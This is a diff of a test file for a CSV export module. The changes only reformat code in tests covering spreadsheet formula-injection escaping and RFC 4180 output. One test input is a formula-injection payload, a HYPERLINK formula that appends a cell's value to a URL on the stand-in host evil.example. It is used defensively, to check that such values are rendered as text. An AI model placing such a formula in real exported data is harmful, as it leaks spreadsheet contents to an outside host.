@@ -6,7 +6,7 @@ import { CSV_MARK, csvLine, toCsv } from "./csv";
 describe("what a spreadsheet would run is text", () => {
   test.each([
     ["=1+1"],
-    ["=HYPERLINK(\"https://evil.example?\"&A1)"],
+    ['=HYPERLINK("https://evil.example?"&A1)'],
     ["+49 30 1234567"],
     ["-2+3"],
     ["@SUM(A1:A9)"],
@@ -49,7 +49,12 @@ describe("RFC 4180", () => {
   });
 
   test("a file begins with the mark of UTF-8 and ends every record with CRLF", () => {
-    expect(toCsv([["a", 1], ["b", 2]])).toBe(`${CSV_MARK}a,1\r\nb,2\r\n`);
+    expect(
+      toCsv([
+        ["a", 1],
+        ["b", 2],
+      ]),
+    ).toBe(`${CSV_MARK}a,1\r\nb,2\r\n`);
   });
 
   test("whatever is written is read back by another parser, but for the apostrophe", () => {
